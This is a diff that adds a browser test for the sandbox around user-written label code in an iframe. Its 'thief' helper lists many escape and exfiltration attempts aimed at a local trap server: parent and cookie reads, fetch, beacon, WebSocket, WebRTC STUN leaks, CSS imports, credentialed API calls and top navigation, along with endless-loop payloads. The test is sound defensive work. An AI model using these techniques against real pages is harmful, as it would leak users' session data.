@@ -1,0 +1,184 @@
+import dgram from 'node:dgram';
+import { createServer } from 'node:http';
+import net from 'node:net';
+import path from 'node:path';
+import { build } from 'esbuild';
+import type { Browser, Page } from 'playwright-core';
+import { afterAll, beforeAll, expect, it } from 'vitest';
+import { labelFrame } from '../apps/server/src/domains/labels/frame/page.ts';
+import type { FrameState, FrameWatch } from '../apps/web/src/domains/labels/runtime/frame/frameWatch.ts';
+import { openBrowser } from './browser.ts';
+
+/** The models of a scene and its frames take their time on a machine that does much else. */
+const within = <T>(timeout: number, read: () => T) => expect.poll(read, { timeout, interval: 100 });
+
+/** Hears whatever a label sends, by TCP or UDP. */
+const hits: string[] = [];
+const tcp = net.createServer((line) => {
+  line.on('data', (data) => hits.push(String(data).split('\r\n')[0] ?? ''));
+  line.on('error', () => undefined);
+});
+const udp = dgram.createSocket('udp4');
+beforeAll(async () => {
+  udp.on('message', () => hits.push('UDP'));
+  await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve));
+  await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
+  const { outputFiles } = await build({
+    stdin: {
+      contents: "import { frameWatch } from './frameWatch.ts'; Object.assign(window, { frameWatch });",
+      resolveDir: path.join(import.meta.dirname, '../apps/web/src/domains/labels/runtime/frame'),
+    },
+    bundle: true,
+    format: 'esm',
+    write: false,
+  });
+  script = outputFiles[0]?.text ?? '';
+  await new Promise<void>((resolve) => site.listen(0, '127.0.0.1', resolve));
+  browser = await openBrowser();
+}, 120_000);
+afterAll(async () => {
+  await browser.close();
+  site.closeAllConnections();
+  site.close();
+  tcp.close();
+  udp.close();
+}, 60_000);
+
+/** The frame as the server sends it, in a page with what the product's policy says of frames and scripts, and the keeper of frames as it is in the product. */
+let browser: Browser;
+let script = '';
+const asked: string[] = [];
+const site = createServer((request, response) => {
+  asked.push(request.url ?? '');
+  const isFrame = request.url === labelFrame.path;
+  response.setHeader(
+    'content-security-policy',
+    isFrame ? labelFrame.policy : "default-src 'self'; script-src 'self'; frame-src 'self'; style-src 'self'",
+  );
+  if (request.url === '/script.js') return response.setHeader('content-type', 'text/javascript').end(script);
+  response.setHeader('content-type', 'text/html');
+  return response.end(
+    isFrame ? labelFrame.html : '<!doctype html><title>secret</title><script type="module" src="/script.js"></script>',
+  );
+});
+
+const told = (words: string): string => `document.body.append(' ${words}');`;
+/** Every way out that is known, each tried on its own; what it finds is written into the label. */
+const thief = (tcpPort: number, udpPort: number): string => {
+  const trap = `http://127.0.0.1:${tcpPort}`;
+  const stun = `new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:${udpPort}'}]})`;
+  const call = `const pc=${stun};pc.createDataChannel('x');pc.createOffer().then((o)=>pc.setLocalDescription(o))`;
+  const nested = JSON.stringify(`<script>${call}</script>`).replaceAll('</', '<\\/');
+  const tries = [
+    `if (parent.document.title) ${told('READ-PARENT')}`,
+    `if (parent.sessionStorage.length >= 0) ${told('READ-SESSION')}`,
+    `if (localStorage.length >= 0) ${told('READ-STORAGE')}`,
+    `if (document.cookie !== undefined) ${told('READ-COOKIE')}`,
+    `top.location = '${trap}/top'`,
+    `fetch('${trap}/fetch?' + document.referrer).catch(() => {})`,
+    `fetch('/api/User/GetUserInfo', { credentials: 'include' }).then(() => { ${told('CALLED-API')} }, () => {})`,
+    `navigator.sendBeacon('${trap}/beacon', 'x')`,
+    `new Image().src = '${trap}/image'`,
+    `new WebSocket('ws://127.0.0.1:${tcpPort}/socket')`,
+    `new EventSource('${trap}/events')`,
+    `open('${trap}/popup')`,
+    `const f = document.createElement('form'); f.action = '${trap}/form'; document.body.append(f); f.submit()`,
+    `const l = document.createElement('link'); l.rel = 'preconnect'; l.href = '${trap}/'; document.head.append(l)`,
+    `const s = document.createElement('style'); s.textContent = "@import '${trap}/css'; body { background: url(${trap}/background) }"; document.head.append(s)`,
+    `const s = document.createElement('script'); s.src = '${trap}/script'; document.body.append(s)`,
+    call,
+    `const i = document.createElement('iframe'); i.srcdoc = ${nested}; document.body.append(i)`,
+    `const h = document.createElement('div'); h.attachShadow({ mode: 'closed' }).innerHTML = '<iframe></iframe>'; document.body.append(h); ${told('SHADOW')}`,
+    `document.write('<iframe src="${trap}/written"></iframe>')`,
+    `for (let n = 0; n < 1e4; n++) label.press()`,
+    `setTimeout(() => { location.href = '${trap}/away' }, 800)`,
+  ];
+  return `${tries.map((one) => `try { ${one} } catch {}`).join('\n')}\ndocument.body.append(' TRIED');`;
+};
+
+const textOf = async (page: Page, words: string) => {
+  for (const frame of page.frames()) {
+    const text = await Promise.race([
+      frame.evaluate(() => document.body.innerText).catch(() => ''),
+      new Promise<string>((resolve) => setTimeout(() => resolve(''), 300)),
+    ]);
+    if (frame !== page.mainFrame() && text.includes(words)) return text;
+  }
+  return '';
+};
+/** Frames that the page draws in a second. */
+const pace = (page: Page) =>
+  page.evaluate(
+    () =>
+      new Promise<number>((resolve) => {
+        const from = performance.now();
+        let count = 0;
+        const next = () => {
+          count += 1;
+          if (performance.now() - from > 1_000) resolve(count);
+          else requestAnimationFrame(next);
+        };
+        requestAnimationFrame(next);
+      }),
+  );
+
+type World = typeof globalThis & { frameWatch: FrameWatch; states: FrameState[]; presses: number };
+const opened = async (codes: readonly string[]) => {
+  const page = await browser.newPage();
+  await page.goto(`http://127.0.0.1:${(site.address() as net.AddressInfo).port}/`);
+  await page.waitForFunction(() => 'frameWatch' in window);
+  await page.evaluate((all) => {
+    const world = globalThis as World;
+    world.states = [];
+    world.presses = 0;
+    for (const [index, js] of all.entries()) {
+      const place = document.createElement('div');
+      document.body.append(place);
+      world.frameWatch.add(
+        place,
+        {
+          html: '<b>CODE</b> <i data-key="t"></i>',
+          css: '',
+          js,
+          theme: 'dark',
+          rows: [{ key: 't', text: '21.4', unit: '°C', isOld: false }],
+        },
+        {
+          onState: (state) => {
+            world.states[index] = state;
+          },
+          onPress: () => {
+            world.presses += 1;
+          },
+        },
+      );
+    }
+  }, codes);
+  return page;
+};
+const states = (page: Page) => page.evaluate(() => (globalThis as World).states);
+
+it('RU-LBL-07 code of a label reaches neither the page nor the session nor the network, however it tries', async () => {
+  const [tcpPort = 0, udpPort = 0] = [tcp, udp].map((one) => (one.address() as net.AddressInfo).port);
+  const page = await opened([thief(tcpPort, udpPort)]);
+  await within(40_000, () => textOf(page, 'TRIED')).toContain('TRIED');
+  const text = await textOf(page, 'TRIED');
+  expect(text).toContain('21.4');
+  expect(text).not.toMatch(/READ-|CALLED-|SHADOW/);
+  await new Promise((resolve) => setTimeout(resolve, 2_500));
+  expect(hits).toEqual([]);
+  // Of our own site it was given nothing but the frame itself.
+  expect(asked.filter((one) => !['/', '/script.js', '/label-frame', '/favicon.ico'].includes(one))).toEqual([]);
+  expect(await page.title()).toBe('secret');
+  expect(await page.evaluate(() => (globalThis as World).presses)).toBeLessThanOrEqual(10);
+  await page.close();
+}, 90_000);
+
+it('RU-LBL-07 a loop without end, at once or later, is found and stopped, while the page goes on and the other labels run again', async () => {
+  const page = await opened(['', 'for (;;);', 'setTimeout(() => { for (;;); }, 3000)', '']);
+  await new Promise((resolve) => setTimeout(resolve, 3_500));
+  expect(await pace(page)).toBeGreaterThan(5);
+  await within(150_000, () => states(page)).toEqual(['running', 'off', 'off', 'running']);
+  expect(await pace(page)).toBeGreaterThan(5);
+  await page.close();
+}, 200_000);
